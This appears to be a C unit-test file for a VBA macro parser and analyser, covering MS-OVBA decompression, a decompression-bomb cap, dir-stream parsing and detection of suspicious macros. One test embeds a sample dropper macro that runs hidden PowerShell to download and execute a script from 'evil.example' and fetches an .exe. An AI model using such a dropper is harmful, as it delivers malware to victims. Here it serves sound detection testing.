/*
 * check_vba.c - [MS-OVBA] decompression edge cases, the dir stream, and
 * the analysis of module source.
 */
#include "config.h"

#include "testutil.h"
#include "office/vba.h"

/* ---- decompression -------------------------------------------------------- */

struct dcase {
	const char *name;
	const uint8_t *in;
	size_t len;
	size_t cap;
	enum emf_rc rc;
	const char *want;	/* expected output (NUL-free), or NULL */
	size_t wantlen;		/* when want is NULL: expected length */
	bool capped;
};

/* [MS-OVBA] 3.2.1: no compression possible. */
static const uint8_t ex1[] = { 0x01, 0x19, 0xB0, 0x00, 0x61, 0x62, 0x63,
	0x64, 0x65, 0x66, 0x67, 0x68, 0x00, 0x69, 0x6A, 0x6B, 0x6C, 0x6D,
	0x6E, 0x6F, 0x70, 0x00, 0x71, 0x72, 0x73, 0x74, 0x75, 0x76, 0x2E };
/* [MS-OVBA] 3.2.2: normal compression. */
static const uint8_t ex2[] = { 0x01, 0x2F, 0xB0, 0x00, 0x23, 0x61, 0x61,
	0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00, 0x70, 0x61, 0x67,
	0x68, 0x69, 0x6A, 0x01, 0x38, 0x08, 0x61, 0x6B, 0x6C, 0x00, 0x30,
	0x6D, 0x6E, 0x6F, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72,
	0x73, 0x74, 0x75, 0x76, 0x10, 0x77, 0x78, 0x79, 0x7A, 0x00, 0x3C };
/* A copy token as the first token of a chunk: nothing to copy from. */
static const uint8_t copy_at_start[] = { 0x01, 0x03, 0xB0, 0x01, 0x00,
	0x00 };
/* Chunk signature bits 000 instead of 011. */
static const uint8_t bad_sig[] = { 0x01, 0x03, 0x80, 0x00, 0x61, 0x62 };
/* No container signature byte. */
static const uint8_t no_sig[] = { 0x02, 0x03, 0xB0, 0x00, 0x61, 0x62 };
/* A chunk that says 28 bytes but stops after "abc": keep "abc". */
static const uint8_t cut[] = { 0x01, 0x19, 0xB0, 0x00, 0x61, 0x62, 0x63 };
/* A copy token cut in half at the end of the input. */
static const uint8_t half_token[] = { 0x01, 0x05, 0xB0, 0x02, 0x61, 0x00 };
/*
 * 17 literals then a copy token: at 17 decoded bytes the offset field
 * grows to 5 bits ([MS-OVBA] 2.4.1.3.19.1). Token 0x8000 = offset 17,
 * length 3: copies "abc" again.
 */
static const uint8_t bits5[] = { 0x01, 0x19, 0xB0,
	0x00, 'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h',
	0x00, 'i', 'j', 'k', 'l', 'm', 'n', 'o', 'p',
	0x02, 'q', 0x00, 0x80 };

START_TEST(decompress_table)
{
	const struct dcase cases[] = {
		{ "spec 3.2.1", ex1, sizeof(ex1), 1 << 20, EMF_OK,
		  "abcdefghijklmnopqrstuv.", 0, false },
		{ "spec 3.2.2", ex2, sizeof(ex2), 1 << 20, EMF_OK,
		  "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa",
		  0, false },
		{ "copy token at chunk start", copy_at_start,
		  sizeof(copy_at_start), 1 << 20, EMF_ERR_FORMAT, "", 0,
		  false },
		{ "bad chunk signature", bad_sig, sizeof(bad_sig), 1 << 20,
		  EMF_ERR_FORMAT, "", 0, false },
		{ "no container signature", no_sig, sizeof(no_sig), 1 << 20,
		  EMF_ERR_FORMAT, "", 0, false },
		{ "empty input", no_sig, 0, 1 << 20, EMF_ERR_FORMAT, "", 0,
		  false },
		{ "chunk cut short", cut, sizeof(cut), 1 << 20, EMF_OK,
		  "abc", 0, false },
		{ "copy token cut in half", half_token, sizeof(half_token),
		  1 << 20, EMF_OK, "a", 0, false },
		{ "offset grows to 5 bits at 17", bits5, sizeof(bits5),
		  1 << 20, EMF_OK, "abcdefghijklmnopqabc", 0, false },
		{ "cap inside literals", ex1, sizeof(ex1), 5, EMF_OK,
		  "abcde", 0, true },
		{ "cap inside a copy", ex2, sizeof(ex2), 3, EMF_OK, "#aa",
		  0, true },
	};

	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		const struct dcase *c = &cases[i];
		uint8_t *out;
		size_t outlen;
		bool capped;
		enum emf_rc rc = emf_vba_decompress(c->in, c->len, c->cap,
		    &out, &outlen, &capped);

		ck_assert_msg(rc == c->rc, "%s: got rc %d, want %d", c->name,
		    rc, c->rc);
		ck_assert_msg(capped == c->capped, "%s: got capped %d, want %d",
		    c->name, capped, c->capped);
		ck_assert_msg(outlen == strlen(c->want) &&
		    memcmp(out, c->want, outlen) == 0,
		    "%s: got \"%.*s\" (%zu), want \"%s\"", c->name, (int)outlen,
		    out, outlen, c->want);
		g_free(out);
	}
}
END_TEST

/*
 * A raw (uncompressed) chunk holds exactly 4096 bytes; a second chunk's
 * copy token may not reach back into the first chunk.
 */
START_TEST(decompress_chunk_edges)
{
	GByteArray *b = g_byte_array_new();
	uint8_t hdr[] = { 0x01, 0xFF, 0x3F };	/* raw chunk, size 4098 */
	uint8_t c2[] = { 0x03, 0xB0, 0x01, 0x00, 0x00 }; /* copy at start */
	uint8_t *out;
	size_t outlen;
	bool capped;

	g_byte_array_append(b, hdr, sizeof(hdr));
	for (int i = 0; i < 4096; i++) {
		uint8_t c = (uint8_t)('a' + i % 26);

		g_byte_array_append(b, &c, 1);
	}
	ck_assert_int_eq(emf_vba_decompress(b->data, b->len, 1 << 20, &out,
	    &outlen, &capped), EMF_OK);
	ck_assert_msg(outlen == 4096, "raw chunk: got %zu bytes, want 4096",
	    outlen);
	ck_assert(out[4095] == (uint8_t)('a' + 4095 % 26));
	g_free(out);

	g_byte_array_append(b, c2, sizeof(c2));
	ck_assert_int_eq(emf_vba_decompress(b->data, b->len, 1 << 20, &out,
	    &outlen, &capped), EMF_ERR_FORMAT);
	ck_assert_msg(outlen == 4096,
	    "copy across chunks: got %zu bytes kept, want 4096", outlen);
	g_free(out);
	g_byte_array_free(b, TRUE);
}
END_TEST

/*
 * A decompression bomb: chunks of one literal and copy tokens of maximum
 * length. Each 3 + 1 + 1 + 2 * 7 byte chunk yields 4096 bytes; the cap
 * must stop it, and within a chunk no more than 4096 bytes may come out.
 */
START_TEST(decompress_bomb)
{
	GByteArray *b = g_byte_array_new();
	uint8_t sig = 0x01;
	uint8_t *out;
	size_t outlen;
	bool capped;

	g_byte_array_append(b, &sig, 1);
	for (int k = 0; k < 2000; k++) {
		/* chunk: flags 0xFE = literal, then 7 copy tokens, then
		 * more flag groups of 8 copy tokens. */
		uint8_t chunk[3 + 1 + 1 + 14 + 9 * 17];
		size_t n = 0;
		uint16_t size;

		chunk[n++] = 0;
		chunk[n++] = 0;
		chunk[n++] = 0xFE;
		chunk[n++] = 'A';
		for (int t = 0; t < 7; t++) {
			/* done = 1: 4 offset bits; offset 1, length max. */
			chunk[n++] = 0xFF;
			chunk[n++] = 0x0F;
		}
		for (int g = 0; g < 9; g++) {
			chunk[n++] = 0xFF;
			for (int t = 0; t < 8; t++) {
				chunk[n++] = 0x00;	/* offset 1, len 3 */
				chunk[n++] = 0x00;
			}
		}
		size = (uint16_t)(0xB000 | (n - 3));
		chunk[0] = (uint8_t)(size & 0xFF);
		chunk[1] = (uint8_t)(size >> 8);
		g_byte_array_append(b, chunk + 0, 2);
		g_byte_array_append(b, chunk + 2, (guint)(n - 2));
	}
	ck_assert_int_eq(emf_vba_decompress(b->data, b->len, 100000, &out,
	    &outlen, &capped), EMF_OK);
	ck_assert_msg(capped && outlen == 100000,
	    "bomb: got %zu bytes, capped %d; want 100000, capped", outlen,
	    capped);
	g_free(out);
	/* Without the cap: exactly 4096 bytes per chunk. */
	ck_assert_int_eq(emf_vba_decompress(b->data, b->len, 1u << 30, &out,
	    &outlen, &capped), EMF_OK);
	ck_assert_msg(outlen == 2000u * 4096,
	    "bomb: got %zu bytes, want %u (4096 per chunk)", outlen,
	    2000u * 4096);
	g_free(out);
	g_byte_array_free(b, TRUE);
}
END_TEST

/* ---- dir stream ------------------------------------------------------------ */

static void
rec(GByteArray *b, uint16_t id, const void *data, uint32_t size)
{
	uint8_t h[6] = { (uint8_t)id, (uint8_t)(id >> 8), (uint8_t)size,
		(uint8_t)(size >> 8), (uint8_t)(size >> 16),
		(uint8_t)(size >> 24) };

	g_byte_array_append(b, h, 6);
	g_byte_array_append(b, data, size);
}

static void
module(GByteArray *b, const char *name, const char *stream, uint32_t off)
{
	uint8_t o[4] = { (uint8_t)off, (uint8_t)(off >> 8),
		(uint8_t)(off >> 16), (uint8_t)(off >> 24) };

	rec(b, 0x0019, name, (uint32_t)strlen(name));
	rec(b, 0x001A, stream, (uint32_t)strlen(stream));
	rec(b, 0x0031, o, 4);
	rec(b, 0x0021, "", 0);
	rec(b, 0x002B, "", 0);
}

static GByteArray *
make_dir(unsigned nmodules)
{
	GByteArray *b = g_byte_array_new();
	uint8_t cp[2] = { 0xE4, 0x04 };	/* 1252 */
	uint8_t ver[6] = { 1, 0, 0, 0, 2, 0 };
	uint8_t two[2] = { 0, 0 };

	rec(b, 0x0001, "\x01\x00\x00\x00", 4);	/* SYSKIND */
	rec(b, 0x0003, cp, 2);
	rec(b, 0x0004, "VBAProject", 10);	/* NAME */
	/* PROJECTVERSION: Size 4, but 6 bytes follow. */
	{
		uint8_t h[6] = { 0x09, 0, 4, 0, 0, 0 };

		g_byte_array_append(b, h, 6);
		g_byte_array_append(b, ver, 6);
	}
	rec(b, 0x000F, two, 2);
	rec(b, 0x0013, two, 2);
	for (unsigned i = 0; i < nmodules; i++) {
		char n[16];

		g_snprintf(n, sizeof(n), "Module%u", i + 1);
		module(b, n, n, 100 + i);
	}
	rec(b, 0x0010, "", 0);
	return b;
}

START_TEST(dir_parse_modules)
{
	GByteArray *b = make_dir(3);
	struct emf_vba_project *p;
	bool capped;
	char *why = NULL;

	ck_assert_int_eq(emf_vba_dir_parse(b->data, b->len, 100, &p, &capped,
	    &why), EMF_OK);
	ck_assert_msg(p->modules->len == 3, "got %u modules, want 3",
	    p->modules->len);
	ck_assert_uint_eq(p->codepage, 1252);
	for (unsigned i = 0; i < 3; i++) {
		struct emf_vba_module *m = g_ptr_array_index(p->modules, i);
		char want[16];

		g_snprintf(want, sizeof(want), "Module%u", i + 1);
		ck_assert_str_eq(m->name, want);
		ck_assert_str_eq(m->stream, want);
		ck_assert_uint_eq(m->offset, 100 + i);
	}
	ck_assert(!capped);
	emf_vba_project_free(p);

	/* The module cap. */
	ck_assert_int_eq(emf_vba_dir_parse(b->data, b->len, 2, &p, &capped,
	    &why), EMF_OK);
	ck_assert_msg(p->modules->len == 2 && capped,
	    "cap 2: got %u modules, capped %d", p->modules->len, capped);
	emf_vba_project_free(p);

	/* Truncated anywhere: never a crash, modules read so far kept. */
	for (size_t n = 0; n < b->len; n++) {
		p = NULL;
		if (emf_vba_dir_parse(b->data, n, 100, &p, &capped, &why) ==
		    EMF_OK)
			emf_vba_project_free(p);
		else
			g_free(why);
	}
	g_byte_array_free(b, TRUE);
}
END_TEST

START_TEST(dir_parse_garbage)
{
	uint8_t junk[64];
	struct emf_vba_project *p = NULL;
	bool capped;
	char *why = NULL;

	memset(junk, 0xFF, sizeof(junk));
	ck_assert_int_eq(emf_vba_dir_parse(junk, sizeof(junk), 100, &p,
	    &capped, &why), EMF_ERR_FORMAT);
	ck_assert_ptr_null(p);
	ck_assert_ptr_nonnull(why);
	g_free(why);
}
END_TEST

/* ---- analysis --------------------------------------------------------------- */

static bool
has(GPtrArray *a, const char *s)
{
	for (guint i = 0; a != NULL && i < a->len; i++)
		if (strcmp(g_ptr_array_index(a, i), s) == 0)
			return true;
	return false;
}

START_TEST(analyse_dropper)
{
	const char *src =
	    "Attribute VB_Name = \"ThisDocument\"\r\n"
	    "Sub Document_Open()\r\n"
	    "  Set s = CreateObject(\"WScript.Shell\")\r\n"
	    "  s.Run \"powershell -w hidden -c IEX(New-Object "
	    "Net.WebClient).DownloadString('http://evil.example/p.ps1')\"\r\n"
	    "  URLDownloadToFile 0, \"https://dl.example.net/a.exe\", "
	    "Environ(\"TEMP\") & \"\\a.exe\", 0, 0\r\n"
	    "End Sub\r\n";
	struct emf_vba_findings f = { 0 };

	emf_vba_analyse(src, strlen(src), &f);
	ck_assert_msg(has(f.autoexec, "Document_Open"), "autoexec missing");
	ck_assert_msg(has(f.suspicious, "CreateObject"), "CreateObject");
	ck_assert_msg(has(f.suspicious, "WScript.Shell"), "WScript.Shell");
	ck_assert_msg(has(f.suspicious, "powershell"), "powershell");
	ck_assert_msg(has(f.suspicious, "URLDownloadToFile"),
	    "URLDownloadToFile");
	ck_assert_msg(has(f.suspicious, "Environ"), "Environ");
	ck_assert_msg(has(f.urls, "http://evil.example/p.ps1"),
	    "got urls %u, want the .ps1 URL", f.urls ? f.urls->len : 0);
	ck_assert_msg(has(f.urls, "https://dl.example.net/a.exe"),
	    "want the .exe URL");
	emf_vba_findings_clear(&f);
}
END_TEST

START_TEST(analyse_benign_and_obfuscated)
{
	const char *benign =
	    "Attribute VB_Name = \"Module1\"\r\n"
	    "Sub Total()\r\n  Range(\"A1\").Value = 1 + 2\r\n"
	    "  MsgBox \"Total: \" & Range(\"A1\").Value\r\nEnd Sub\r\n";
	GString *obf = g_string_new("Sub AutoOpen()\r\nx = ");
	struct emf_vba_findings f = { 0 };

	emf_vba_analyse(benign, strlen(benign), &f);
	ck_assert_msg(f.autoexec == NULL && f.suspicious == NULL &&
	    f.urls == NULL, "benign module: got findings");
	for (int i = 0; i < 40; i++)
		g_string_append_printf(obf, "Chr(%d) & ", 65 + i % 26);
	g_string_append(obf, "\"\"\r\nEnd Sub\r\n");
	emf_vba_analyse(obf->str, obf->len, &f);
	ck_assert_msg(has(f.autoexec, "AutoOpen"), "AutoOpen missing");
	ck_assert_msg(has(f.suspicious, "Chr() obfuscation"),
	    "40 Chr() calls: obfuscation not reported");
	emf_vba_findings_clear(&f);
	g_string_free(obf, TRUE);
}
END_TEST

START_TEST(analyse_activex_triggers)
{
	const char *src =
	    "Attribute VB_Name = \"UserForm1\"\r\n"
	    "Private Sub InkPicture2_Painted(ByVal hDC As Long)\r\n"
	    "End Sub\r\n"
	    "Sub Image1_MouseMove(ByVal Button As Integer)\r\n"
	    "End Sub\r\n"
	    "Private Sub TextBox1_Change()\r\nEnd Sub\r\n"
	    "Private Sub WebBrowser1_DocumentComplete(ByVal p As Object)\r\n"
	    "End Sub\r\n"
	    /* A click needs the user; a worksheet edit too. */
	    "Private Sub CommandButton1_Click()\r\nEnd Sub\r\n"
	    "Private Sub Worksheet_Change(ByVal Target As Range)\r\n"
	    "End Sub\r\n"
	    /* Only a declaration counts, not a call or a comment. */
	    "' Frame1_Layout is not declared here\r\n"
	    "Call Label9_Layout\r\n";
	const char *xlm =
	    "Sub Go()\r\n"
	    "  Set s = Excel4IntlMacroSheets.Add\r\n"
	    "  Application.Run n & \"1\"\r\n"
	    "  Application.Run \"Literal\"\r\nEnd Sub\r\n";
	struct emf_vba_findings f = { 0 };

	emf_vba_analyse(src, strlen(src), &f);
	ck_assert_msg(has(f.autoexec, "InkPicture2_Painted"), "Painted");
	ck_assert_msg(has(f.autoexec, "Image1_MouseMove"), "MouseMove");
	ck_assert_msg(has(f.autoexec, "TextBox1_Change"), "Change");
	ck_assert_msg(has(f.autoexec, "WebBrowser1_DocumentComplete"),
	    "DocumentComplete");
	ck_assert_uint_eq(f.autoexec->len, 4);
	emf_vba_findings_clear(&f);
	emf_vba_analyse(xlm, strlen(xlm), &f);
	ck_assert_msg(f.autoexec == NULL, "no trigger in Sub Go");
	ck_assert_msg(has(f.suspicious, "Excel4IntlMacroSheets"),
	    "Excel4IntlMacroSheets");
	ck_assert_msg(has(f.suspicious, "Application.Run (built name)"),
	    "Application.Run of a built name");
	emf_vba_findings_clear(&f);
	emf_vba_analyse("Application.Run \"Macro1\"\r\n", 26, &f);
	ck_assert_msg(f.suspicious == NULL, "Application.Run of a literal");
	emf_vba_findings_clear(&f);
}
END_TEST

static Suite *
vba_suite(void)
{
	Suite *s = suite_create("vba");
	TCase *tc = tcase_create("core");

	tcase_add_test(tc, decompress_table);
	tcase_add_test(tc, decompress_chunk_edges);
	tcase_add_test(tc, decompress_bomb);
	tcase_add_test(tc, dir_parse_modules);
	tcase_add_test(tc, dir_parse_garbage);
	tcase_add_test(tc, analyse_dropper);
	tcase_add_test(tc, analyse_benign_and_obfuscated);
	tcase_add_test(tc, analyse_activex_triggers);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	return tu_run(vba_suite());
}
